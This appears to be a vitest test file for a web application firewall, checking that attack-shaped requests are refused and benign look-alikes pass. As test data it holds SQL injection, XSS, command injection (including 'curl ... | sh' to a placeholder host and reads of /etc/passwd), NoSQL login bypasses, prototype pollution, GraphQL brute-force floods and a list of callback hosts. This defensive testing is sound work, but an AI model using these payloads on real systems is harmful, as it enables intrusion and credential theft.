// Inputs the WAF reads besides parameters and bodies, through a real edge at level 1: the user and
// password of HTTP basic authentication, validators and cache directives that do not keep to their
// grammar, cookie names with '+' as a space; out-of-band callback hosts anywhere in a request;
// prototype pollution in values; NoSQL operators for a credential; a domain's GraphQL policy
// (waf_graphql: introspection and alias or batch floods refused when it is `block`, through the
// API's PATCH). And the ordinary requests that look a little like them passed: other schemes'
// tokens, well-formed validators, a prose search for a command line, GraphQL with __typename.
// Refused requests never reach the backend.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { jsonInputs } from '../../src/edge/waf/body-parse.ts';
import { graphqlDocument, graphqlViolation } from '../../src/edge/waf/graphql.ts';
import { headerUnread } from '../../src/edge/waf/inputs.ts';
import { cpuMs } from '../helpers/cpu-time.ts';
import { multipart } from '../helpers/waf-corpus.ts';
import { json, query, WafEdge, type Sent } from '../helpers/waf-edge.ts';

let edge: WafEdge;
const PLAIN = 'inputs.example';
const GRAPHQL = 'graphql.example';
const send = (req: Sent, host = PLAIN) => edge.send(req, host);
const headers = (h: Record<string, string>): Sent => ({ path: '/page', headers: h });
const basic = (user: string, password: string): Sent => headers({ authorization: `Basic ${Buffer.from(`${user}:${password}`).toString('base64')}` });
const expectRefused = (cases: Array<[string, Sent]>, host = PLAIN) => edge.expectRefused(cases, host);
const expectPassed = (cases: Array<[string, Sent]>, host = PLAIN) => edge.expectPassed(cases, host);
const api = (method: string, path: string, body?: unknown) => edge.api(method, path, body);

beforeAll(async () => {
  edge = await WafEdge.start([{ domain: PLAIN }, { domain: GRAPHQL }]);
}, 150_000);

afterAll(() => edge?.stop());

describe('edge: inputs besides parameters, at level 1', () => {
  it('reads the user and password of HTTP basic authentication', async () => {
    await expectRefused([
      ['SQL in the password', basic('admin', "' or '1'='1'-- -")],
      ['UNION in the password', basic('admin', "x' UNION SELECT password FROM users-- -")],
      ['XSS in the user', basic('<script>alert(1)</script>', 'x')],
      ['command in the password', basic('root', '; cat /etc/passwd')],
      ['lower-case scheme', headers({ authorization: `basic ${Buffer.from("admin:' or 1=1-- -").toString('base64')}` })],
    ]);
    await expectPassed([
      ['an ordinary pair', basic('alice@example.org', 'correct horse battery staple')],
      ['a password of symbols', basic('bob', "p@ss'w0rd!#$%")],
      ['a bearer JWT', headers({ authorization: 'Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c' })],
      ['a digest answer', headers({ authorization: 'Digest username="alice", realm="x", nonce="dcd98b7102dd2f0e8b11d0f600bfb0c093", uri="/page", response="6629fae49393a05397450978507c4ef1"' })],
    ]);
  });

  it('reads validators and cache directives that do not keep to their grammar', async () => {
    // The page's verdict remembered first: a validator outside its grammar is part of the verdict's key.
    await expectPassed([['the page', headers({ accept: 'text/html' })]]);
    await expectRefused([
      ['SQL in If-None-Match', headers({ accept: 'text/html', 'if-none-match': `"1' UNION SELECT password FROM users-- -"` })],
      ['XSS in If-None-Match', headers({ 'if-none-match': '"<script>alert(1)</script>"' })],
      ['SQL in If-Match', headers({ 'if-match': "' or sleep(5)#" })],
      ['XSS in Cache-Control', headers({ 'cache-control': 'no-cache="<script>alert(1)</script>"' })],
      ['SQL in Cache-Control', headers({ 'cache-control': "max-age=0' or 1=1-- -" })],
      ['SQL in If-Modified-Since', headers({ 'if-modified-since': "Wed, 21 Oct 2015 07:28:00 GMT' and sleep(5)#" })],
      ['command in Pragma', headers({ pragma: 'no-cache;cat /etc/passwd' })],
      ['XSS in Accept-Encoding', headers({ 'accept-encoding': 'gzip, <svg onload=alert(1)>' })],
    ]);
    await expectPassed([
      ['well-formed validators', headers({ 'if-none-match': 'W/"5e-17c4d2a9f3b", "33a64df551425fcc55e4d42a148795d9f25f89d4"', 'if-modified-since': 'Wed, 21 Oct 2015 07:28:00 GMT', 'cache-control': 'max-age=0, no-cache="set-cookie"', pragma: 'no-cache' })],
      ['If-Match *, If-Range date', headers({ 'if-match': '*', 'if-range': 'Wed, 21 Oct 2015 07:28:00 GMT', 'accept-encoding': 'gzip;q=1.0, identity; q=0.5, *;q=0' })],
      ['a cached page asked again with another validator', headers({ 'if-none-match': '"abc-123"' })],
    ]);
  });

  it('reads cookie names and values with + as a space, as PHP decodes them', async () => {
    await expectRefused([
      ['UNION in a cookie name', headers({ cookie: "id=1; 1'+UNION+SELECT+password+FROM+users--+-=1" })],
      ['OR in a cookie name', headers({ cookie: "x'+or+'1'<'2=1" })],
      ['UNION in a cookie value', headers({ cookie: "id=1'+UNION+SELECT+password+FROM+users--+-" })],
      ['OR in a cookie value', headers({ cookie: "id=x'+or+'1'<'2" })],
    ]);
    await expectPassed([['ordinary cookies', headers({ cookie: 'session+id=abc; theme=dark; _ga=GA1.2.3.4; sid=dGhpcyBpcyBh+c2Vzc2lvbi/8=; q=a+b+c' })]]);
  });
});

describe('edge: out-of-band callback hosts, at level 1', () => {
  it('refuses the callback hosts of the public testing services anywhere in a request', async () => {
    await expectRefused([
      ['interact.sh in a URL', query('url', 'http://c59d1b2xq.interact.sh/x')],
      ['oast.fun as a bare host', query('host', 'cn3k8ql2vtc0000bm1v0gxyz.oast.fun')],
      ['oast.pro in a command', query('ip', '127.0.0.1 && nslookup x1.oast.pro')],
      ['oast.live', query('u', 'https://abc.oast.live')],
      ['oast.site', query('u', 'abc.oast.site')],
      ['oast.online', query('u', 'abc.oast.online')],
      ['oast.me', query('u', 'abc.oast.me')],
      ['burpcollaborator.net in JSON', json({ webhook: 'http://w8x2.burpcollaborator.net' })],
      ['oastify.com in XML', { path: '/xml', headers: { 'content-type': 'application/xml' }, body: '<a><img src="http://q1w2e3.oastify.com/p"/></a>' }],
      ['dnslog.cn', query('d', 'abc.dnslog.cn')],
      ['requestbin.net', query('d', 'http://x.d.requestbin.net/')],
      ['canarytokens', query('d', 'http://canarytokens.com/about/abc123/index.html')],
      ['in the User-Agent', headers({ 'user-agent': 'Mozilla/5.0 (x) c59d1b2xq.oast.fun' })],
      ['in the Referer', headers({ referer: 'http://c59d1b2xq.oastify.com/ref' })],
      ['in an X- header', headers({ 'x-forwarded-host': 'c59d1b2xq.interact.sh' })],
      ['percent-encoded', { path: '/q?u=http%3A%2F%2Fx1%2Eoast%2Efun' }],
    ]);
    await expectPassed([
      ['a script named interact.sh', query('file', 'scripts/interact.sh')],
      ['prose naming the services', query('q', 'interact.sh vs burpcollaborator.net for testing')],
      ['a host that only starts alike', query('u', 'https://oast.fun.example.org/')],
      ['an ordinary host', query('u', 'https://docs.example.org/oast')],
    ]);
  });
});

describe('edge: prototype pollution in values and NoSQL operators for credentials, at level 1', () => {
  it('refuses paths to a prototype as values, prototype writes in strings, operators for a credential', async () => {
    await expectRefused([
      ['dotted path value', query('path', 'a.__proto__.isAdmin')],
      ['__proto__ first', query('key', '__proto__.polluted')],
      ['constructor.prototype value', query('path', 'constructor.prototype.isAdmin')],
      ['bracketed path value', query('path', 'constructor[prototype][isAdmin]')],
      ['quoted brackets', query('path', '["__proto__"]["isAdmin"]')],
      ['lodash set-style path in JSON', json({ path: 'settings.__proto__.isAdmin', value: true })],
      ['an Object.prototype write in a JSON string', json({ code: 'Object.prototype.isAdmin = true' })],
      ['JSON with __proto__ inside a JSON string', json({ data: '{"__proto__":{"isAdmin":true}}' })],
      ['JSON with constructor.prototype inside a JSON string', json({ data: '{"constructor":{"prototype":{"isAdmin":true}}}' })],
      ['$ne for a password', json({ username: 'admin', password: { $ne: null } })],
      ['$gt for a password', json({ username: 'admin', password: { $gt: '' } })],
      ['$regex for a user', json({ username: { $regex: '.*' }, password: { $ne: 'x' } })],
      ['$ne for a user alone, in a multipart field', (() => { const m = multipart({ data: '{"username":{"\\u0024ne":null}}' }); return { path: '/login', headers: { 'content-type': m.contentType }, body: m.body }; })()],
      ['$where', json({ $where: 'sleep(5000)' })],
    ]);
    await expectPassed([
      ['prose about __proto__', query('q', 'why is __proto__ deprecated')],
      ['the MDN page name', query('q', 'Object.prototype.__proto__')],
      ['a method name', query('q', 'Object.prototype.hasOwnProperty')],
      ['a filter with $ne on another field', json({ filter: { status: { $ne: 'archived' } } })],
      ['an admin filter on e-mail', json({ filter: { $or: [{ email: { $regex: "^o'brien", $options: 'i' } }, { name: { $regex: "O'Brien" } }] } })],
      ['a comparison in prose', json({ text: 'if (Object.prototype.x == y) return' })],
    ]);
  });
});

describe('edge: a prose search for a command line, at level 1', () => {
  it('passes a command line as the whole value of a search parameter, not one that runs', async () => {
    await expectPassed([
      ['grep -r', query('q', 'grep -r "foo" .')],
      ['ls -la /var/log', query('q', 'ls -la /var/log')],
      ['cat ~/.bashrc', query('q', 'cat ~/.bashrc')],
      ['ls /var/log', query('q', 'ls /var/log')],
      ['cat /proc/cpuinfo', query('search', 'cat /proc/cpuinfo')],
      ['echo $PATH', query('query', 'echo $PATH')],
      ['curl with a URL', query('s', 'curl https://example.org/install.sh')],
      ['silencing a command', query('q', 'curl -s https://example.org > /dev/null 2>&1')],
      ['a search form', { path: '/search', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'q=ls+%2Fvar%2Flog' }],
    ]);
    await expectRefused([
      ['a separator and a command', query('q', 'x; cat /etc/hosts')],
      ['a substitution', query('q', '$(curl http://x.example/s.sh)')],
      ['a pipe to a shell', query('q', 'curl http://x.example/s | sh')],
      ['a command line in another parameter', query('cmd', 'cat /proc/cpuinfo')],
      ['a command line that is not prose: a redirection', query('q', 'echo x > /var/www/s.php')],
    ]);
  });
});

describe('edge: a domain GraphQL policy (waf_graphql)', () => {
  const introspection = '{ __schema { types { name fields { name } } } }';
  const aliases = (n: number) => `query { ${Array.from({ length: n }, (_, i) => `a${i}: login(user: "admin", password: "p${i}") { token }`).join(' ')} }`;
  const batch = (n: number) => Array.from({ length: n }, (_, i) => ({ query: `mutation { login(user: "admin", password: "p${i}") { token } }` }));
  const attacks: Array<[string, Sent]> = [
    ['introspection in JSON', json({ query: introspection }, '/graphql')],
    ['__type in GET', query('query', '{ __type(name: "User") { fields { name } } }')],
    ['introspection with operation name', json({ operationName: 'IntrospectionQuery', query: `query IntrospectionQuery ${introspection}`, variables: {} }, '/graphql')],
    ['51 aliases', json({ query: aliases(51) }, '/graphql')],
    ['a batch of 11 operations', json(batch(11), '/graphql')],
    ['introspection as an application/graphql body', { path: '/graphql', headers: { 'content-type': 'application/graphql' }, body: introspection }],
  ];
  const benign: Array<[string, Sent]> = [
    ['an ordinary query with __typename', json({ query: 'query GetUser($id: ID!) { user(id: $id) { id name __typename posts(first: 10) { title } } }', variables: { id: '1' } }, '/graphql')],
    ['a few aliases', json({ query: aliases(5) }, '/graphql')],
    ['a batch of 3', json(batch(3), '/graphql')],
    ['a GET query', query('query', '{ me { id name } }')],
    ['an application/graphql body', { path: '/graphql', headers: { 'content-type': 'application/graphql' }, body: 'query { me { id name __typename } }' }],
    ['a string naming __schema', json({ query: 'mutation { post(text: "see __schema docs") { id } }' }, '/graphql')],
  ];

  it('is off by default: introspection and batches pass', async () => {
    const res = await api('GET', `/domains/${PLAIN}`);
    expect(await res.json()).toMatchObject({ waf_graphql: 'off' });
    await expectPassed([...attacks, ...benign]);
  });

  it('is set through the API and described in the OpenAPI document', async () => {
    const spec = await (await fetch(`${edge.server.url}/openapi.json`)).text();
    const at = spec.indexOf('"waf_graphql":{');
    expect(at).toBeGreaterThan(0);
    // The setting's schema: its two values and a description (the PATCH body's and the domain's).
    expect(spec.slice(at, at + 400)).toMatch(/"enum":\["off"\].*"enum":\["block"\].*"description":"[^"]*introspection/);
    const bad = await api('PATCH', `/domains/${GRAPHQL}`, { waf_graphql: 'maybe' });
    expect(bad.status).toBe(400);
    const res = await api('PATCH', `/domains/${GRAPHQL}`, { waf_graphql: 'block' });
    expect(res.status).toBe(200);
    expect(await res.json()).toMatchObject({ waf_graphql: 'block' });
  });

  it('when block: refuses introspection and alias or batch floods, passes ordinary GraphQL', async () => {
    // The setting reaches the edge through the feed: wait until it refuses.
    for (let i = 0; i < 100 && (await send(attacks[0]![1], GRAPHQL)) !== 403; i++) await new Promise((r) => setTimeout(r, 50));
    await expectRefused(attacks, GRAPHQL);
    await expectPassed(benign, GRAPHQL);
  });
});

describe('GraphQL documents and header grammars, pure', () => {
  it('counts aliases outside arguments, strings and comments; finds __schema and __type, not __typename', () => {
    expect(graphqlDocument('query Q($id: ID = 1) { a: user(id: $id, where: {name: "x: y"}) { b: name __typename } }')).toEqual({ introspection: false, aliases: 2 });
    expect(graphqlDocument('{ x # a: b: c:\n y(s: """ __schema: """) }')).toEqual({ introspection: false, aliases: 0 });
    expect(graphqlDocument('{ __type(name: "A") { name } }').introspection).toBe(true);
    expect(graphqlViolation(jsonInputs(JSON.stringify({ query: 'not graphql: __schema' }), 'body'))).toBeUndefined();
  });

  it('reads adversarial documents in linear time (16 and 64 KiB)', () => {
    for (const unit of ['"', '"""', '#', '(', 'a:', 'a ', '__schema ', '\\"']) {
      const cost = (doc: string) => Math.min(...[0, 1, 2, 3, 4].map(() => cpuMs(() => graphqlViolation(jsonInputs(JSON.stringify({ query: `{ ${doc}` }), 'body')))));
      const small = cost(unit.repeat((16 * 1024) / unit.length));
      const large = cost(unit.repeat((64 * 1024) / unit.length));
      expect(large, `${unit}: ${small.toFixed(1)} ms at 16 KiB, ${large.toFixed(1)} ms at 64 KiB`).toBeLessThan(8 * small + 30);
    }
  });

  it('leaves a header unread only while it keeps to its grammar', () => {
    expect(headerUnread('if-none-match', 'W/"5e-17c4d2a9f3b", "abc"')).toBe(true);
    expect(headerUnread('if-none-match', `"1' or 1=1-- -"`)).toBe(false);
    expect(headerUnread('cache-control', 'max-age=0, private, no-cache="set-cookie, vary"')).toBe(true);
    expect(headerUnread('cache-control', 'max-age=0<script>')).toBe(false);
    expect(headerUnread('if-modified-since', 'Wed, 21 Oct 2015 07:28:00 GMT')).toBe(true);
    expect(headerUnread('if-modified-since', 'Sunday, 06-Nov-94 08:49:37 GMT')).toBe(true);
    expect(headerUnread('accept-encoding', 'gzip, deflate, br, zstd')).toBe(true);
    expect(headerUnread('host', 'anything')).toBe(true);
    expect(headerUnread('authorization', 'Bearer x')).toBe(false);
  });
});
